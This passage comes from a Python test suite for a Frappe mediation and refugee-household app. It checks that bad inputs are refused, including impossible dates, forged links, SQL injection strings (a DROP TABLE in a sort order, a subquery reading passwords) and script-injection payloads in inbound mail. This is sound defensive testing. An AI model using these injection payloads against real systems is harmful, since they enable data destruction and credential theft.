		adds={"Mediation Case": 1},  # the acknowledgement leaves after the commit (an Outbound Message)
	),
	Bad(
		TENANT,
		"forged follow-up link",
		lambda w: api("mitmenschen.mediation.follow_up.submit_answer")(w.case, "aaaaaaaa", "solved"),
		"Dieser Link ist nicht (mehr) gültig.",
		user="Guest",
	),
	# ---- desk -------------------------------------------------------------------------------------
	Bad(
		DESK,
		"workflow action the state does not allow",
		lambda w: api("mitmenschen.workflows.rules.apply_workflow")(
			{"doctype": "Mediation Case", "name": w.case}, "Approve"
		),
		"<strong>Genehmigen</strong> ist nicht möglich, solange dieser Datensatz (Vermittlungsfall) im Status <strong>Neu</strong> ist.",
		exc=frappe.ValidationError,
	),
	Bad(
		DESK,
		"workflow action that does not exist",
		lambda w: api("mitmenschen.workflows.rules.apply_workflow")(
			{"doctype": "Mediation Case", "name": w.case}, "Explode"
		),
		"<strong>Explode</strong> ist nicht möglich, solange dieser Datensatz (Vermittlungsfall) im Status <strong>Neu</strong> ist.",
	),
	Bad(
		DESK,
		"status jump by a save",
		save_case(status="Closed"),
		"Der Schritt von <strong>Neu</strong> nach <strong>Geschlossen</strong> ist nicht vorgesehen.",
	),
	Bad(
		DESK,
		"rejecting a resolution without a reason",
		lambda w: api("mitmenschen.mediation.case_workflow.reject_resolution")(w.case, "  "),
		"Bitte geben Sie an, warum die vorgeschlagene Lösung abgelehnt wird.",
		user="manager",
		arrange=lambda w: frappe.db.set_value(
			"Mediation Case",
			w.case,
			{"status": "Resolution Proposed", "resolution": "Ruhezeiten", "resolution_proposed_by": w.clerk},
		),
	),
	Bad(
		DESK,
		"unknown step status",
		lambda w: api("mitmenschen.mediation.playbook.set_step_status")(w.case, "1", "Exploded"),
		"Unbekannter Status des Schritts.",
	),
	Bad(
		DESK,
		"skipping an onboarding step without a reason",
		lambda w: api("mitmenschen.households.onboarding.skip_step")("x", "1", "<p> </p>"),
		"Bitte geben Sie den Grund für das Auslassen des Schritts an.",
	),
	Bad(
		DESK,
		"erasure with a made-up reason",
		lambda w: api("mitmenschen.privacy.subject_access.erase_household")(w.household, "weil ich es will"),
		"Bitte wählen Sie einen Grund für die Löschung.",
		user="manager",
	),
	Bad(
		DESK,
		"a phone answer for an open case",
		lambda w: api("mitmenschen.mediation.follow_up.record_phone_answer")(w.case, "solved"),
		"Nachfragen gibt es nur bei abgeschlossenen Fällen.",
	),
	Bad(
		DESK,
		"30 February as follow-up date",
		save_case(follow_up_date="2026-02-30"),
		"Nachfassdatum: <strong>2026-02-30</strong> ist kein Datum, das es gibt.",
	),
	Bad(
		DESK,
		"month 13 as opening time",
		save_case(opened_on="2026-13-01 10:00:00"),
		"<strong>2026-13-01 10:00:00</strong> ist kein Datum, das es gibt.",
	),
	Bad(
		DESK,
		"31 April as a meeting's start",
		save_doc("meeting_a", starts_on="2026-04-31 18:00:00"),
		"<strong>2026-04-31 18:00:00</strong> ist kein Datum, das es gibt.",
	),
	Bad(
		DESK,
		"an impossible consent date in a child row",
		lambda w: _consent(w, "2026-02-29"),
		"Zeile 1: Erteilt am: <strong>2026-02-29</strong> ist kein Datum, das es gibt.",
	),
	Bad(
		DESK,
		"a meeting that ends before it starts",
		save_doc("meeting_a", ends_on="2020-01-01 10:00:00"),
		"Die Sitzung muss nach ihrem Beginn enden.",
	),
	Bad(
		DESK,
		"moving in before arriving",
		save_doc("household", move_in_date="2026-01-01"),
		"Das Einzugsdatum <strong>01.01.2026</strong> liegt vor dem Ankunftsdatum <strong>01.03.2026</strong>.",
	),
	Bad(
		DESK,
		"consent withdrawn before it was given",
		lambda w: _consent(w, "2026-05-01", withdrawn_on="2026-04-01"),
		"Einwilligung, Zeile 1: Sie wurde am <strong>01.04.2026</strong> widerrufen, also bevor sie am <strong>01.05.2026</strong> erteilt wurde.",
	),
	Bad(
		DESK,
		"a birth year in the future",
		lambda w: _member(w, 2999),
		"Zeile 1: Geburtsjahr 2999 von <strong>Amal</strong> ist nicht plausibel.",
	),
	Bad(
		DESK,
		"referral to an inactive partner",
		lambda w: save_case(referred_to=w.inactive_partner)(w),
		"Nur aktive Partnerorganisationen können Vermittlungen erhalten.",
	),
	Bad(
		DESK,
		"unknown interpreter language",
		save_case(interpreter_language="xx-klingon"),
		"Dolmetschsprache: xx-klingon konnte nicht gefunden werden",
		exc=frappe.LinkValidationError,
	),
	Bad(
		DESK,
		"overlong subject",
		save_case(subject="Lärm " * 60),
		") wird abgeschnitten werden, da maximal 140 Zeichen erlaubt sind",
		exc=frappe.CharacterLengthExceededError,
	),
	Bad(
		DESK,
		"reporter email that is no address",
		save_case(reporter_email="nachbarin at haus"),
		"nachbarin at haus ist keine gültige E-Mail-Adresse",
		exc=frappe.InvalidEmailAddressError,
	),
	Bad(
		DESK,
		"SQL-like list filter",
		lambda w: frappe.get_attr("frappe.client.get_list")(
			"Mediation Case", filters=[["subject", "like", "%' OR '1'='1"]]
		),
		handled=sql_filter_finds_nothing,
	),
	Bad(
		DESK,
		"SQL in the sort order",
		lambda w: frappe.get_attr("frappe.client.get_list")(
			"Mediation Case", order_by="name; DROP TABLE `tabMediation Case`"
		),
		"Ungültige SQL-Abfrage",
	),
	Bad(
		DESK,
		"a subquery as a field",
		lambda w: frappe.get_attr("frappe.client.get_list")(
			"Mediation Case", fields=["name", "(select password from `__Auth`)"]
		),
		"Feld in der Abfrage nicht erlaubt: password",
		exc=frappe.DataError,
	),
	Bad(
		DESK,
		"impossible date for the half-year report",
		lambda w: api("mitmenschen.evidence.half_year.download")("2026-02-30", "2026-06-30"),
		"<strong>2026-02-30</strong> ist keine gültige Datumszeichenfolge.",
	),
	# ---- inbound mail -----------------------------------------------------------------------------
	Bad(
		MAIL,
		"HTML mail with script",
		lambda w: receive(w, mail(f"<p>Wasserschaden im Keller</p>{XSS}", html=True)),
		handled=mail_html_is_inert,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"HTML mail with a phishing form",
		lambda w: receive(w, mail(f"<p>Bitte bestätigen</p>{PHISH}", html=True)),
		handled=phishing_form_removed,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"overlong subject",
		lambda w: receive(w, mail(subject="Lärm " * 200)),
		handled=subject_cut_to_140,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"broken MIME",
		lambda w: receive(
			w,
			(
				"From: nachbarin@tenant.example\r\nTo: hilfe@esc.localhost\r\nSubject: Kaputte Mail\r\n"
				f"Message-ID: {make_msgid(domain='tenant.example')}\r\nContent-Type: multipart/mixed\r\n\r\n"
				"--nothing\r\ngarbage\xff\xfe"
			).encode("latin-1"),
		),
		handled=broken_mime_kept,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"unknown charset",
		lambda w: receive(
			w,
			(
				"From: nachbarin@tenant.example\r\nTo: hilfe@esc.localhost\r\nSubject: =?x-unknown?B?SGFsbG8=?=\r\n"
				f"Message-ID: {make_msgid(domain='tenant.example')}\r\nContent-Type: text/plain; charset=x-unknown\r\n\r\n"
				"Hallo M\xfcll"
			).encode("latin-1"),
		),
		handled=unknown_charset_kept,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"subject of markup only",
		lambda w: receive(w, mail(subject=f"<img src=x onerror=alert('{MARK}')>")),
		handled=markup_subject_kept,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"script in the sender's name",
		lambda w: receive(w, mail(sender=f'"<script>alert({MARK})</script>" <nachbar@tenant.example>')),
		handled=sender_name_is_text,
		adds=MAIL_ADDS,
	),
	Bad(
		MAIL,
		"SVG attachment with script",
		lambda w: receive(w, mail(attachments=[("plan.svg", SVG)])),
		handled=svg_attachment_downloads,
		adds={**MAIL_ADDS, "File": 1, "Comment": 2},  # and Frappe's note of the attachment
	),
	Bad(
		MAIL,
		"zero-byte attachment",
		lambda w: receive(w, mail(attachments=[("leer.pdf", b"")])),
		handled=empty_attachment_skipped,
		adds=MAIL_ADDS,
	),
	Bad(MAIL, "a mail without sender", lambda w: receive(w, mail(sender="")), exc=AttributeError),
	Bad(MAIL, "bytes that are no mail", lambda w: receive(w, b"\x00\x01\x02 kein Mail"), exc=AttributeError),
]


def _consent(w: World, given_on: str, withdrawn_on: str | None = None):
	doc = frappe.get_doc("Refugee Household", w.household)
	doc.append(
		"consents", {"purpose": "Referral to Partners", "given_on": given_on, "withdrawn_on": withdrawn_on}
	)
	return doc.save()


def _member(w: World, birth_year: int):
	doc = frappe.get_doc("Refugee Household", w.household)
	doc.append("members", {"member_name": "Amal", "relation": "Child", "birth_year": birth_year})
	return doc.save()


# ---- the runner -------------------------------------------------------------------------------------


class TestBadInput(FrappeTestCase):
	"""One test per row of CATALOGUE (generated below)."""

	world: World

	@classmethod
	def setUpClass(cls) -> None:
		super().setUpClass()
		frappe.set_user("Administrator")
		cls.world = build_world()
		print(f"\nbad-input catalogue: {len(CATALOGUE)} cases")

	def setUp(self) -> None:
		frappe.set_user("Administrator")
		frappe.local.lang = "de"
		frappe.local.message_log = []
		frappe.utils.set_request(method="GET", path="/")
		frappe.db.savepoint("bad_input")

	def tearDown(self) -> None:
		frappe.set_user("Administrator")
		frappe.db.rollback(save_point="bad_input")
		frappe.local.message_log = []
		frappe.local.lang = "en"

	def test_the_catalogue_has_at_least_60_cases_at_every_door(self) -> None:
		self.assertGreaterEqual(len(CATALOGUE), 60)
		doors = {case.door for case in CATALOGUE}
		self.assertEqual(doors, {DESK, PORTAL, TENANT, MAIL})

	def run_case(self, case: Bad) -> None:
		w = self.world
		if case.arrange:
			case.arrange(w)
		before = state(w)
		frappe.set_user(user_of(w, case))
		frappe.local.lang = "de"
		result = None
		if case.handled is None:
			with self.assertRaises(case.exc) as refused:
				case.attempt(w)
			if case.says:
				self.assertIn(case.says, str(refused.exception))
		else:
			result = case.attempt(w)
		after = state(w)
		frappe.set_user("Administrator")
		if case.handled:
			case.handled(self, w, result)
		adds = {**case.adds}
		if case.adds_when_mail and can_send_mail():
			adds = {
				doctype: adds.get(doctype, 0) + case.adds_when_mail.get(doctype, 0)
				for doctype in {*adds, *case.adds_when_mail}
			}
		expected = {doctype: n + adds.get(doctype, 0) for doctype, n in before["counts"].items()}
		self.assertEqual(after["counts"], expected, "rows added or removed")
		for key in case.touches:
			after["modified"][key] = before["modified"][key]
		self.assertEqual(after["modified"], before["modified"], "a record was changed")


def _test_name(index: int, case: Bad) -> str:
	words = "".join(c if c.isalnum() else "_" for c in case.what.lower()).strip("_")
	return f"test_{case.door}_{index:02d}_{'_'.join(w for w in words.split('_') if w)[:60]}"


def _make_test(case: Bad):
	def test(self: TestBadInput) -> None:
		self.run_case(case)

	test.__doc__ = f"{case.door}: {case.what}"
	return test


for _index, _case in enumerate(CATALOGUE, start=1):
	setattr(TestBadInput, _test_name(_index, _case), _make_test(_case))
